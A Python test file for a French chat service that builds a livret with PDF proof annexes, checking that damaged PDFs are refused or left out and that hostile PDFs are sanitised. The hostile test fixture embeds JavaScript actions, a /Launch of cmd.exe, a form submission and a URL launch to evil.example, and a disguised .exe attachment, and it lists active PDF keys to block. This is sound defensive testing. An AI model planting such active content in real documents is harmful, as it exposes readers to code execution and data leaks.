"""PDF proofs that are damaged or hostile, as an agent may send them without knowing.

Damaged: a small real PDF, mutated. Some mutations make pypdf raise inside the check (the
upload turn failed), others pass it and make pypdf fail when the annexes are appended (every
PDF of the agent failed from then on). Now each is refused at once; one stored before that
is left out of the PDF and named to the agent, and the livret, the data export and the
extract are still made. A property test mutates the sample at random: whatever ``check``
accepts, the edition appends.

Hostile: a PDF built with pypdf that carries a document-level script, a page-open script, a
/Launch and a /URI link, an attached file, a form field with actions and a script hidden in
a font. The edition the manager opens (the whole PDF, every object walked) holds none of it;
the pages still show their text and the filled-in field.
"""

import hashlib
import io
import re
import secrets
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    PdfObject,
    RectangleObject,
    TextStringObject,
)

from dialogs import copy
from dialogs.engine import Engine
from documents import copy as document_copy
from documents.annexes import Annex, append
from documents.proofs import PDF, ProofError, check, safe_pdf
from tests.chat import EngineChat
from tests.samples import soffice_or_skip
from tests.test_proofs import png

# ---- a small real PDF, and what breaks it ----------------------------------------------------


def pdf_file(objects: list[bytes]) -> bytes:
    """A PDF of these objects (numbered from 1; 3 is the catalogue, 1 the information), its
    cross-reference table computed: the same bytes whatever the pypdf installed."""
    out = bytearray(b"%PDF-1.3\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<<\n/Size %d\n/Root 3 0 R\n/Info 1 0 R\n>>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def page_text(number: int) -> bytes:
    return b"BT /F1 24 Tf 72 720 Td (Attestation page %d) Tj ET" % number


def sample_pdf() -> bytes:
    """Two A4 pages of text, laid out as pypdf writes a file: what mutations start from."""
    objects = [
        b"<<\n/Producer (pypdf)\n>>",
        b"<<\n/Type /Pages\n/Count 2\n/Kids [ 5 0 R 7 0 R ]\n>>",
        b"<<\n/Type /Catalog\n/Pages 2 0 R\n>>",
        b"<<\n/Type /Font\n/Subtype /Type1\n/BaseFont /Helvetica\n>>",
    ]
    for number, content in ((1, 6), (2, 8)):
        objects.append(
            b"<<\n/Type /Page\n/Resources <<\n/Font <<\n/F1 4 0 R\n>>\n>>\n"
            b"/MediaBox [ 0.0 0.0 595 842 ]\n/Parent 2 0 R\n/Contents %d 0 R\n>>" % content
        )
        text = page_text(number)
        objects.append(b"<<\n/Length %d\n>>\nstream\n%s\nendstream" % (len(text), text))
    return pdf_file(objects)


def mutated(old: bytes, new: bytes) -> bytes:
    data = sample_pdf()
    assert data.count(old) >= 1, old
    return data.replace(old, new, 1)


# They pass the former check (the PDF opens and has pages); pypdf fails on appending them.
BREAK_APPEND = {
    # The page tree opens with a stray "[": pypdf finds a page with no reference of its own
    # and merging it fails on an assertion.
    "page-tree-bracket": lambda: mutated(b"2 0 obj\n<<\n/Type", b"2 0 obj\n<<[/Type"),
    # The page tree's /Type lost a letter: the same, an AssertionError.
    "page-tree-type": lambda: mutated(b"/Type /Pages", b"/ ype /Pages"),
    # A content stream's /Length is a name: a TypeError, read only when the page is copied.
    "length-a-name": lambda: mutated(b"/Length 49", b"/Length/49"),
}
# pypdf raises something else than its read errors inside the former check itself.
BREAK_CHECK = {
    # TypeError: the cross-reference subsection header runs into its keyword.
    "xref-header": lambda: mutated(b"xref\n0 9", b"xref/0 9"),
    # AttributeError: the trailer is read as a number.
    "trailer-number": lambda: mutated(b"trailer\n<<", b"trailer0<<"),
    # LimitReachedError: the subsection declares no object, then lists them.
    "xref-count": lambda: mutated(b"xref\n0 9", b"xref\n0 0"),
}
DAMAGED = BREAK_APPEND | BREAK_CHECK


def test_the_sample_is_a_good_pdf() -> None:
    """What the mutations start from opens, as the agent's viewer would show it."""
    reader = PdfReader(io.BytesIO(sample_pdf()))
    assert [p.extract_text() for p in reader.pages] == ["Attestation page 1", "Attestation page 2"]
    assert check(sample_pdf()).pages == 2


@pytest.mark.parametrize("make", DAMAGED.values(), ids=DAMAGED.keys())
def test_a_damaged_pdf_is_refused_by_the_check(make: Callable[[], bytes]) -> None:
    with pytest.raises(ProofError) as refused:
        check(make())
    assert refused.value.reason == "corrupt"


def edition_base() -> bytes:
    """One blank page standing for the livret the annexes follow."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def mutations() -> st.SearchStrategy[bytes]:
    """The sample with a few bytes changed, a slice cut out or doubled, or its end lost:
    what a bad download, a bad disk or a careless tool does to a file."""
    size = len(sample_pdf())
    position = st.integers(0, size - 1)
    one = st.one_of(
        st.tuples(st.just("set"), position, st.binary(min_size=1, max_size=4)),
        st.tuples(st.just("cut"), position, st.integers(1, 64)),
        st.tuples(st.just("double"), position, st.integers(1, 64)),
        st.tuples(st.just("end"), position, st.just(0)),
        # Bytes that mean something to a PDF parser, where they do the most harm.
        st.tuples(st.just("set"), position, st.sampled_from([b"[", b"<<", b"/", b"R", b" ", b"0"])),
    )

    def apply(steps: list[tuple[str, int, object]]) -> bytes:
        data = sample_pdf()
        for kind, at, arg in steps:
            at = min(at, max(len(data) - 1, 0))
            if kind == "set":
                assert isinstance(arg, bytes)
                data = data[:at] + arg + data[at + len(arg) :]
            elif kind == "cut":
                assert isinstance(arg, int)
                data = data[:at] + data[at + arg :]
            elif kind == "double":
                assert isinstance(arg, int)
                data = data[: at + arg] + data[at:]
            else:
                data = data[:at]
        return data

    return st.lists(one, min_size=1, max_size=3).map(apply)


@settings(
    max_examples=150,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(data=mutations())
def test_what_the_check_accepts_the_edition_appends(data: bytes) -> None:
    try:
        checked = check(data)
    except ProofError:
        return
    appended = append(edition_base(), [Annex(PDF, data)])
    assert appended.left_out == []
    assert len(PdfReader(io.BytesIO(appended.data)).pages) == 1 + checked.pages


def test_an_annex_that_cannot_be_appended_is_left_out_and_the_others_kept() -> None:
    """As for a proof stored before the check was strict: the edition is still made."""
    annexes = [
        Annex(PDF, sample_pdf()),
        Annex(PDF, BREAK_APPEND["page-tree-bracket"]()),
        Annex("png", png()),
        Annex(PDF, BREAK_APPEND["length-a-name"]()),
    ]
    appended = append(edition_base(), annexes)
    assert appended.left_out == [1, 3]
    pages = PdfReader(io.BytesIO(appended.data)).pages
    # The livret's page, the sample's two, the photo's one.
    assert len(pages) == 4
    assert pages[1].extract_text() == "Attestation page 1"


# ---- through the chat ------------------------------------------------------------------------

BTS = "BTS Assistant de gestion (2010)"


@pytest.fixture
async def on_diplome(engine: Engine, anne: EngineChat, tmp_path: Path) -> EngineChat:
    """Anne's BTS is open on screen, her proofs kept in tmp_path."""
    engine.proofs_dir = tmp_path / "proofs"
    await anne.tap("Diplômes et titres")
    await anne.tap("Ajouter un diplôme")
    await anne.send("BTS Assistant de gestion")
    await anne.send("2010")
    await anne.tap("Enregistrer")
    await anne.tap("1. BTS")
    return anne


def stored(engine: Engine) -> list[Path]:
    assert engine.proofs_dir is not None
    return sorted(p for p in engine.proofs_dir.rglob("*") if p.is_file())


@pytest.mark.parametrize("make", DAMAGED.values(), ids=DAMAGED.keys())
async def test_a_damaged_pdf_sent_is_refused_at_once(
    engine: Engine, on_diplome: EngineChat, make: Callable[[], bytes]
) -> None:
    anne = on_diplome
    await anne.tap(copy.PROOF_ADD)
    await anne.send_file(make())
    assert anne.text.startswith(copy.PROOF_CORRUPT)
    assert stored(engine) == []
    # Still waiting for a file: the good one is taken.
    await anne.send_file(sample_pdf())
    assert copy.PROOF_ADDED in anne.text
    assert len(stored(engine)) == 1


async def stored_before(engine: Engine, data: bytes) -> None:
    """A PDF proof of Anne's BTS that the former check let in, as it was stored then."""
    assert engine.proofs_dir is not None
    async with engine.db.transaction() as tx:
        agent = await tx.find_agent("test", "anne")
        assert agent is not None
        [bts] = [e for e in await tx.all_entries(agent) if e.rubrique == "diplomes"]
        relative = Path(f"agent-{agent}") / f"{secrets.token_hex(16)}.pdf"
        target = engine.proofs_dir / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        digest = hashlib.sha256(data).hexdigest()
        await tx.add_proof(agent, bts.id, PDF, str(relative), len(data), digest)


def left_out(number: int) -> str:
    return copy.ANNEX_LEFT_OUT.format(number=number, what=document_copy.ANNEX_PDF, entry=BTS)


async def documents(engine: Engine, replies: list) -> tuple[list[Path], str]:
    """What the agent receives once the documents asked for are made: files and words."""
    [pending] = [r.pending for r in replies if r.pending]
    made = await engine.fulfil(pending)
    files = [r.document for r in made if r.document is not None]
    return files, "\n".join(r.text for r in made if r.document is None)


@pytest.mark.parametrize("make", BREAK_APPEND.values(), ids=BREAK_APPEND.keys())
async def test_a_damaged_proof_already_stored_is_left_out_of_the_livret_and_named(
    engine: Engine, on_diplome: EngineChat, make: Callable[[], bytes]
) -> None:
    soffice_or_skip()
    anne = on_diplome
    await anne.tap(copy.PROOF_ADD)
    await anne.send_file(png())
    await stored_before(engine, make())
    await anne.tap(copy.PROOF_ADD)
    await anne.send_file(sample_pdf())

    await anne.send("/menu")
    await anne.tap(copy.MENU_EDITION)
    [pdf], said = await documents(engine, await anne.tap("PDF"))
    assert copy.EDITION_READY in said
    assert left_out(2) in said
    assert "L'annexe 1" not in said and "L'annexe 3" not in said
    pages = PdfReader(io.BytesIO(pdf.read_bytes())).pages
    # The photo's page and the good PDF's two pages end the livret; annex 2 is not there.
    assert [p.extract_text() for p in pages[-2:]] == ["Attestation page 1", "Attestation page 2"]
    assert not pages[-3].extract_text().strip()
    assert "Annexe 3 : document PDF" in pages[-4].extract_text()


async def test_a_damaged_proof_already_stored_leaves_the_export_and_the_extract_whole(
    engine: Engine, on_diplome: EngineChat
) -> None:
    soffice_or_skip()
    anne = on_diplome
    await stored_before(engine, BREAK_APPEND["page-tree-bracket"]())

    [archive], said = await documents(engine, await anne.send("/mesdonnees"))
    assert left_out(1) in said
    with zipfile.ZipFile(archive) as opened:
        names = opened.namelist()
        [livret] = [n for n in names if n.startswith("livret/") and n.endswith(".pdf")]
        assert PdfReader(io.BytesIO(opened.read(livret))).pages
    assert len([n for n in names if n.startswith("justificatifs/")]) == 1

    await anne.send("/menu")
    await anne.tap(copy.MENU_SHARE)
    await anne.tap("Diplômes et titres")
    await anne.tap("BTS Assistant de gestion")
    await anne.tap("(PDF, ")
    await anne.tap(copy.SHARE_DONE_PICKING)
    await anne.tap(copy.SHARE_PREVIEW)
    [extract], said = await documents(engine, await anne.tap(copy.SHARE_GET_PDF))
    assert copy.SHARE_READY in said
    assert left_out(1) in said
    assert (
        "Annexe 1 : document PDF"
        in PdfReader(io.BytesIO(extract.read_bytes())).pages[-1].extract_text()
    )


# ---- hostile PDFs ------------------------------------------------------------------------------

# What may run, fetch, launch or carry a file in a PDF: none of it reaches the manager.
ACTIVE = frozenset(
    {
        "/JS",
        "/JavaScript",
        "/Launch",
        "/URI",
        "/EmbeddedFile",
        "/EmbeddedFiles",
        "/AA",
        "/OpenAction",
        "/RichMedia",
        "/SubmitForm",
        "/ImportData",
    }
)
FIELD_VALUE = "Jean MARTIN"


def every_name(data: bytes) -> set[str]:
    """Every dictionary key and every name in the PDF: each object the cross-reference
    tables list (those of object streams too), and the trailer, walked all through."""
    reader = PdfReader(io.BytesIO(data))
    todo: list[PdfObject] = [reader.trailer]
    for generation, table in reader.xref.items():
        todo += [IndirectObject(number, generation, reader) for number in table]
    todo += [IndirectObject(number, 0, reader) for number in reader.xref_objStm]
    names: set[str] = set()
    seen: set[int] = set()
    while todo:
        obj = todo.pop()
        if isinstance(obj, IndirectObject):
            obj = obj.get_object()
        if id(obj) in seen:
            continue
        seen.add(id(obj))
        if isinstance(obj, DictionaryObject):
            names |= set(obj.keys())
            todo += list(obj.values())
        elif isinstance(obj, ArrayObject):
            todo += list(obj)
        elif isinstance(obj, NameObject):
            names.add(str(obj))
    return names


def js(code: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def action(kind: str, **entries: PdfObject) -> DictionaryObject:
    found = DictionaryObject({NameObject("/S"): NameObject(kind)})
    found.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    return found


def annotation(subtype: str, rect: list[int], **entries: PdfObject) -> DictionaryObject:
    found = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): RectangleObject(rect),
        }
    )
    found.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    return found


def hostile_pdf() -> bytes:
    """The sample's two pages with every kind of active content pypdf can put in a PDF."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(sample_pdf())))
    add = writer._add_object
    # Document level: a script run at opening, a named script, an attached file.
    writer._root_object[NameObject("/OpenAction")] = add(js("app.alert('ouvert')"))
    writer._root_object[NameObject("/AA")] = DictionaryObject(
        {NameObject("/WC"): add(js("app.alert('fermé')"))}
    )
    writer.add_attachment("facture.pdf.exe", b"MZ\x90\x00 not a program")
    names = writer._root_object["/Names"]
    names[NameObject("/JavaScript")] = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("init"), add(js("app.launchURL('https://evil.example')"))]
            )
        }
    )
    first, second = writer.pages[0], writer.pages[1]
    # Page level: a script when the page opens, and when it closes.
    first[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): js("app.alert('page')"), NameObject("/C"): js("app.alert('fin')")}
    )
    # Links: to a web page (pypdf's own), to a program, to a script, submitting a form.
    writer.add_uri(0, "https://evil.example/suivi", RectangleObject([72, 700, 300, 730]))
    writer.add_annotation(
        0,
        annotation(
            "/Link",
            [72, 650, 300, 680],
            A=action("/Launch", F=TextStringObject("cmd.exe"), Win=DictionaryObject()),
        ),
    )
    writer.add_annotation(0, annotation("/Link", [72, 600, 300, 630], A=js("this.print()")))
    writer.add_annotation(
        1,
        annotation(
            "/Link",
            [72, 650, 300, 680],
            A=action("/SubmitForm", F=TextStringObject("https://evil.example/form")),
        ),
    )
    writer.add_annotation(
        1,
        annotation("/Link", [72, 600, 300, 630], A=action("/ImportData", F=TextStringObject("x"))),
    )
    # An attached file on the page, and rich media.
    spec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("payload.exe"),
            NameObject("/EF"): DictionaryObject(
                {NameObject("/F"): writer.pages[0].get("/Contents").indirect_reference}
            ),
        }
    )
    writer.add_annotation(1, annotation("/FileAttachment", [10, 10, 30, 30], FS=spec))
    writer.add_annotation(
        1,
        annotation(
            "/RichMedia", [10, 40, 30, 60], RichMediaContent=DictionaryObject(), AA=js("x()")
        ),
    )
    # A filled-in form field with actions: its look is kept, its actions are not.
    look = DecodedStreamObject()
    look.set_data(b"BT /Helv 12 Tf 2 4 Td (%s) Tj ET" % FIELD_VALUE.encode())
    look.update(
        {
            NameObject("/Type"): NameObject("/XObject"),
            NameObject("/Subtype"): NameObject("/Form"),
            NameObject("/BBox"): RectangleObject([0, 0, 200, 20]),
            NameObject("/Resources"): DictionaryObject(
                {
                    NameObject("/Font"): DictionaryObject(
                        {
                            NameObject("/Helv"): DictionaryObject(
                                {
                                    NameObject("/Type"): NameObject("/Font"),
                                    NameObject("/Subtype"): NameObject("/Type1"),
                                    NameObject("/BaseFont"): NameObject("/Helvetica"),
                                }
                            )
                        }
                    )
                }
            ),
        }
    )
    field = annotation(
        "/Widget",
        [72, 500, 272, 520],
        FT=NameObject("/Tx"),
        T=TextStringObject("nom"),
        V=TextStringObject(FIELD_VALUE),
        AP=DictionaryObject({NameObject("/N"): add(look)}),
        A=js("app.alert('clic')"),
        AA=DictionaryObject(
            {
                NameObject("/K"): js("event.rc = true"),
                NameObject("/Fo"): action("/URI", URI=TextStringObject("https://evil.example")),
            }
        ),
    )
    writer.add_annotation(1, field)
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject([second["/Annots"][-1]]),
            NameObject("/NeedAppearances"): NumberObject(0),
        }
    )
    # Resources by reference, as most producers write them.
    first[NameObject("/Resources")] = add(first["/Resources"])
    # A script hidden where nothing runs it: in the page's font.
    font = first["/Resources"]["/Font"]["/F1"]
    font[NameObject("/JS")] = TextStringObject("app.alert('police')")
    font[NameObject("/Foo")] = js("app.alert('police')")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_the_hostile_pdf_is_hostile() -> None:
    """Every kind of active content is in it, where a viewer would find it."""
    assert every_name(hostile_pdf()) >= ACTIVE - {"/RichMedia"} | {"/Annots", "/AcroForm"}


def test_a_hostile_pdf_keeps_its_look_and_nothing_active() -> None:
    data = safe_pdf(hostile_pdf())
    assert every_name(data) & (ACTIVE | {"/Annots", "/AcroForm", "/Names", "/Filespec"}) == set()
    pages = PdfReader(io.BytesIO(data)).pages
    assert pages[0].extract_text() == "Attestation page 1"
    # The filled-in field is drawn on its page, where it was.
    assert pages[1].extract_text().split("\n") == ["Attestation page 2", FIELD_VALUE]


async def share_bts_with_proof(anne: EngineChat) -> str:
    """Anne shares her BTS and its PDF by a link; the link's start parameter."""
    await anne.send("/menu")
    await anne.tap(copy.MENU_SHARE)
    await anne.tap("Diplômes et titres")
    await anne.tap("BTS Assistant de gestion")
    await anne.tap("(PDF, ")
    await anne.tap(copy.SHARE_DONE_PICKING)
    await anne.tap(copy.SHARE_PREVIEW)
    await anne.tap(copy.SHARE_LINK)
    await anne.tap("30 jours")
    await anne.tap(copy.SHARE_NO_NOTE)
    found = re.search(r"start=(s-[\w-]+)", anne.text)
    assert found, anne.text
    return found[1]


async def test_the_manager_s_extract_holds_nothing_active(
    engine: Engine, on_diplome: EngineChat
) -> None:
    soffice_or_skip()
    engine.outreach.bot_username = "LivretBot"
    anne = on_diplome
    await anne.tap(copy.PROOF_ADD)
    await anne.send_file(hostile_pdf())
    assert copy.PROOF_ADDED in anne.text

    await anne.send("/menu")
    await anne.tap(copy.MENU_EDITION)
    [livret], said = await documents(engine, await anne.tap("PDF"))
    assert copy.ANNEX_LEFT_OUT.split("{")[0] not in said
    assert every_name(livret.read_bytes()) & ACTIVE == set()

    start = await share_bts_with_proof(anne)
    [extract], _ = await documents(engine, await EngineChat(engine, "boss").send(f"/start {start}"))
    data = extract.read_bytes()
    assert every_name(data) & ACTIVE == set()
    pages = PdfReader(io.BytesIO(data)).pages
    assert "Annexe 1 : document PDF" in pages[-3].extract_text()
    assert pages[-2].extract_text() == "Attestation page 1"
    assert pages[-1].extract_text().split("\n") == ["Attestation page 2", FIELD_VALUE]
